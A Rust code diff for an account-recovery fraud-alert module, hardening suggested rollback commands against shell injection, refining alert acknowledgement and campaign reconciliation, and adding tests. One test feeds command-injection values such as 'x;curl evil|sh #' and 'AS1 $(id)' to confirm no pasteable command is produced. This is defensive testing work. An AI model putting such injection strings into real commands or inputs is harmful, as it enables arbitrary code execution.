@@ -162,8 +162,8 @@ pub fn request_indicators(action: &RecoveryAction, signals: &Signals, high_value
         let all = "high-value accounts".to_string();
         indicators.push(indicator(Check::HighValue, all.clone(), all));
     }
-    if let Some(network) = signals.source_network.as_deref().map(|network| network.trim().to_lowercase()) {
-        indicators.push(indicator(Check::SourceNetwork, network.clone(), network));
+    if let Some(network) = signals.source_network.as_deref() {
+        indicators.push(indicator(Check::SourceNetwork, network.trim().to_lowercase(), network.trim().to_string()));
     }
     indicators
 }
@@ -368,15 +368,20 @@ impl Alert {
     /// `None` where only the listed cases can (`airlock rollback CASE` each).
     pub fn rollback_suggestion(&self, now: UnixMs) -> Option<String> {
         let since = format!("{}h", now.0.saturating_sub(self.first_at.0).div_ceil(HOUR_MS).max(1));
-        // The domain as written: `--match` folds look-alike letters itself, so it matches every look-alike too.
+        // The domain as written: `--match` folds look-alike letters itself, so it matches every look-alike too. Only
+        // a value made of letters, digits and `.-_:/` is put in a command line to copy: anything else (a space, a
+        // quote, a `;`, a control character) could make it another command.
+        let plain = self.shown.chars().all(|c| c.is_alphanumeric() || ".-_:/".contains(c)) && !self.shown.is_empty();
         let matching = match self.check {
-            Check::DestinationDomain => format!("destination-domain={}", self.shown),
-            Check::Destination => {
-                let domain = self.shown.rsplit_once('@')?.1;
-                format!("destination-domain={domain}")
-            }
-            Check::SourceNetwork => format!("source-network={}", self.shown),
-            Check::HighValue | Check::Phrasing | Check::ProofFailures => return None,
+            Check::DestinationDomain if plain => format!("destination-domain={}", self.shown),
+            Check::SourceNetwork if plain => format!("source-network={}", self.shown),
+            // One address's domain is everyone's who uses that provider: only the listed cases.
+            Check::Destination
+            | Check::DestinationDomain
+            | Check::SourceNetwork
+            | Check::HighValue
+            | Check::Phrasing
+            | Check::ProofFailures => return None,
         };
         Some(format!("airlock rollback --match {matching} --since {since} --dry-run"))
     }
@@ -444,7 +449,8 @@ impl AlertsState {
         self
     }
 
-    /// The acknowledgement an operator asks for, or why not.
+    /// The acknowledgement an operator asks for, or why not. An alert acknowledged once may be acknowledged again to
+    /// change what it is (a campaign after all, or benign after all), not to say the same again.
     pub fn acknowledge(
         &self,
         alert_id: &str,
@@ -452,7 +458,7 @@ impl AlertsState {
         benign: bool,
     ) -> Result<AlertEventBody, Rejection> {
         let alert = self.alerts.get(alert_id).ok_or(Rejection::NoSuchAlert)?;
-        if alert.acknowledged.is_some() {
+        if alert.acknowledged.as_ref().is_some_and(|ack| ack.benign == benign) {
             return Err(Rejection::AlertAlreadyAcknowledged);
         }
         Ok(AlertEventBody::AlertAcknowledged { alert_id: alert_id.to_string(), reason, benign })
@@ -468,6 +474,10 @@ pub struct Hit {
     /// The indicator as this request wrote it.
     pub shown: String,
 }
+
+/// How far before an alert's first case a request of the same indicator still joins it: two processes' clocks, and
+/// the time between a request's decision and its projection in another process.
+pub const CLOCK_SKEW_MS_MAX: u64 = 5 * MINUTE_MS;
 
 /// The id of the alert a campaign's first case raises: the same in every process that sees it.
 pub fn alert_id(check: Check, indicator: &str, first_case: &str) -> String {
@@ -490,28 +500,35 @@ pub fn reconcile(
     hits: &[Hit],
     state: &AlertsState,
 ) -> Option<AlertEventBody> {
-    let window = threshold.window_ms;
-    // The hits the latest alert covers, or could: from a window before its first case (another process's clock may
-    // have stamped a request of the campaign a little earlier, and its projection shown it later), each within the
-    // window of the one before.
+    // Cases any alert of this indicator holds already: never counted twice, never moved to another alert.
+    let mine = |alert: &&Alert| alert.check == check && alert.indicator == indicator;
+    let known: BTreeSet<&str> =
+        state.alerts.values().filter(mine).flat_map(|alert| alert.cases.iter().map(String::as_str)).collect();
     let mut after = 0;
     if let Some(alert) = state.latest.get(&(check, indicator.to_string())).and_then(|id| state.alerts.get(id)) {
-        let known: BTreeSet<&str> = alert.cases.iter().map(String::as_str).collect();
-        let start = alert.first_at.0.saturating_sub(window);
+        // The hits the latest alert covers, or could, by its own window (whatever this process is configured with):
+        // from a little before its first case (another process's clock may have stamped a request of the campaign
+        // earlier, and its projection shown it later), each within the window of the one before; for an alert an
+        // operator called benign, none from a window after that on (a later campaign is a new alert).
+        let window = alert.threshold.window_ms;
+        let start = alert.first_at.0.saturating_sub(window.min(CLOCK_SKEW_MS_MAX));
+        let until = match &alert.acknowledged {
+            Some(ack) if ack.benign => ack.at.0.saturating_add(window),
+            Some(_) | None => u64::MAX,
+        };
+        let this: BTreeSet<&str> = alert.cases.iter().map(String::as_str).collect();
         let mut last = alert.last_at;
         let mut added = Vec::new();
         let mut accounts: BTreeSet<&str> = BTreeSet::new();
         for (index, hit) in hits.iter().enumerate() {
-            if hit.at.0 < start {
+            if hit.at.0 < start || known.contains(hit.case_id.as_str()) {
+                if this.contains(hit.case_id.as_str()) {
+                    accounts.insert(&hit.account_id);
+                }
                 after = index + 1;
                 continue;
             }
-            if known.contains(hit.case_id.as_str()) {
-                accounts.insert(&hit.account_id);
-                after = index + 1;
-                continue;
-            }
-            if hit.at.0 >= last.0.saturating_add(window) {
+            if hit.at.0 >= last.0.saturating_add(window) || hit.at.0 >= until {
                 break;
             }
             last = last.max(hit.at);
@@ -531,14 +548,16 @@ pub fn reconcile(
             });
         }
     }
-    // A new campaign among the later hits: the first moment `accounts_min` accounts fall within one window.
-    let rest = &hits[after..];
+    // A new campaign among the later hits no alert holds: the first moment `accounts_min` accounts fall within one
+    // window.
+    let rest: Vec<&Hit> = hits[after..].iter().filter(|hit| !known.contains(hit.case_id.as_str())).collect();
+    let window = threshold.window_ms;
     let mut start = 0;
     for end in 0..rest.len() {
         while rest[end].at.0.saturating_sub(rest[start].at.0) >= window {
             start += 1;
         }
-        if distinct_accounts(rest[start..=end].iter()) >= threshold.accounts_min {
+        if distinct_accounts(rest[start..=end].iter().copied()) >= threshold.accounts_min {
             // The campaign so far: the window that tripped and every later hit chained to it.
             let mut last = rest[end].at;
             let mut covered = end + 1;
@@ -554,7 +573,7 @@ pub fn reconcile(
                 indicator: indicator.to_string(),
                 shown: campaign[0].shown.clone(),
                 threshold,
-                accounts: distinct_accounts(shown.iter()),
+                accounts: distinct_accounts(shown.iter().copied()),
                 cases: shown.iter().map(|hit| hit.case_id.clone()).collect(),
                 first_at: campaign[0].at,
                 last_at: shown.last().expect("a campaign has a hit").at,
@@ -646,7 +665,8 @@ mod tests {
         assert_eq!((alert.cases.len(), cases.len(), alert.accounts), (250, 250, 250));
     }
 
-    // Proves an acknowledgement is recorded once, and only a benign one takes the alert out of the policy's facts.
+    // Proves an acknowledgement records the operator's word: a campaign's alert stays open to the policy, a benign
+    // one leaves it; saying the same again is refused, changing it is recorded; an unknown alert is refused.
     #[test]
     fn an_acknowledged_alert_stays_open_unless_benign() {
         let threshold = Threshold { accounts_min: 2, window_ms: HOUR_MS };
@@ -657,12 +677,89 @@ mod tests {
         let ack = state.acknowledge(&id, reason.clone(), false).unwrap();
         let state = apply(state, ack, 5);
         assert!(state.alerts[&id].open_at(UnixMs(10)));
-        assert_eq!(state.acknowledge(&id, reason.clone(), true), Err(Rejection::AlertAlreadyAcknowledged));
+        assert_eq!(state.acknowledge(&id, reason.clone(), false), Err(Rejection::AlertAlreadyAcknowledged));
         assert_eq!(state.acknowledge("alert-none", reason.clone(), true), Err(Rejection::NoSuchAlert));
-        let (state, _) = settle(Check::Destination, threshold, &hits, AlertsState::default());
-        let state = apply(state.clone(), state.acknowledge(&id, reason, true).unwrap(), 5);
+        let state = apply(state.clone(), state.acknowledge(&id, reason.clone(), true).unwrap(), 6);
         assert!(!state.alerts[&id].open_at(UnixMs(10)) && state.alerts[&id].active_at(UnixMs(10)));
         assert!(!state.alerts[&id].active_at(UnixMs(1 + HOUR_MS)));
+        // Benign after all, then a campaign after all.
+        let state = apply(state.clone(), state.acknowledge(&id, reason, false).unwrap(), 7);
+        assert!(state.alerts[&id].open_at(UnixMs(10)));
+    }
+
+    // Proves a benign acknowledgement covers what came before it and a window after, not for ever: hits that keep
+    // the indicator busy past that trip a new alert, which the policy sees.
+    #[test]
+    fn a_benign_alert_does_not_hide_a_later_campaign() {
+        let threshold = Threshold { accounts_min: 3, window_ms: HOUR_MS };
+        let step = 20 * MINUTE_MS;
+        // Honest traffic at one domain, every 20 minutes, all day: it keeps one chain alive.
+        let hits: Vec<Hit> = (0..30).map(|index| hit(index, index, index as u64 * step)).collect();
+        let (state, _) = settle(Check::DestinationDomain, threshold, &hits[..5], AlertsState::default());
+        let id = state.alerts.keys().next().unwrap().clone();
+        let reason = UntrustedText::new("reason", "gmail, every day", 100).unwrap();
+        let state = apply(state.clone(), state.acknowledge(&id, reason, true).unwrap(), 5 * step);
+        let (state, _) = settle(Check::DestinationDomain, threshold, &hits, state);
+        assert_eq!(state.alerts.len(), 2, "a later campaign was folded into the benign alert");
+        let later = state.alerts.values().find(|alert| alert.alert_id != id).unwrap();
+        assert!(later.first_at.0 >= 5 * step + HOUR_MS && later.open_at(later.last_at));
+        let cases: BTreeSet<&String> = state.alerts.values().flat_map(|alert| &alert.cases).collect();
+        assert_eq!(cases.len(), 30, "every case in exactly one alert");
+    }
+
+    // Proves an alert keeps the window it was raised with: a process configured with a longer one adds no case of an
+    // older alert to the latest one, and one configured with a shorter one does not split the campaign.
+    #[test]
+    fn an_alert_keeps_its_own_window() {
+        let hour = Threshold { accounts_min: 3, window_ms: HOUR_MS };
+        let day = Threshold { accounts_min: 3, window_ms: 24 * HOUR_MS };
+        let minute = Threshold { accounts_min: 3, window_ms: 2 * MINUTE_MS };
+        let mut hits: Vec<Hit> = (0..3).map(|index| hit(index, index, index as u64)).collect();
+        hits.extend((3..6).map(|index| hit(index, index, 3 * HOUR_MS + index as u64)));
+        let (state, _) = settle(Check::DestinationDomain, hour, &hits, AlertsState::default());
+        assert_eq!(state.alerts.len(), 2);
+        assert_eq!(settle(Check::DestinationDomain, day, &hits, state.clone()).1, 0, "cases moved between alerts");
+        hits.push(hit(6, 6, 3 * HOUR_MS + 30 * MINUTE_MS));
+        let (state, events) = settle(Check::DestinationDomain, minute, &hits, state);
+        assert_eq!((events, state.alerts.len()), (1, 2), "a shorter window split the campaign");
+    }
+
+    // Proves the rollback an alert suggests is one an operator can paste safely: only for a domain or a network, only
+    // when its value is plain (no space, quote, `;` or control character), reaching back to the first case.
+    #[test]
+    fn a_suggested_rollback_is_safe_to_paste() {
+        let threshold = Threshold { accounts_min: 2, window_ms: HOUR_MS };
+        let alert = |check, shown: &str| Alert {
+            alert_id: "alert-1".into(),
+            check,
+            indicator: shown.to_lowercase(),
+            shown: shown.into(),
+            threshold,
+            accounts: 2,
+            cases: Vec::new(),
+            first_at: UnixMs(0),
+            last_at: UnixMs(HOUR_MS),
+            raised_at: UnixMs(0),
+            acknowledged: None,
+        };
+        let now = UnixMs(5 * HOUR_MS + 1);
+        assert_eq!(
+            alert(Check::DestinationDomain, "attacker.example").rollback_suggestion(now).as_deref(),
+            Some("airlock rollback --match destination-domain=attacker.example --since 6h --dry-run")
+        );
+        assert_eq!(
+            alert(Check::SourceNetwork, "AS64500").rollback_suggestion(now).as_deref(),
+            Some("airlock rollback --match source-network=AS64500 --since 6h --dry-run")
+        );
+        for (check, shown) in [
+            (Check::SourceNetwork, "x;curl evil|sh #"),
+            (Check::SourceNetwork, "AS1 $(id)"),
+            (Check::SourceNetwork, "AS1\u{1b}[2J"),
+            (Check::Destination, "drop@gmail.com"),
+            (Check::Phrasing, "case-1"),
+        ] {
+            assert_eq!(alert(check, shown).rollback_suggestion(now), None, "{shown:?}");
+        }
     }
 
     /// A tiny deterministic generator, so the measurement below is the same on every run.
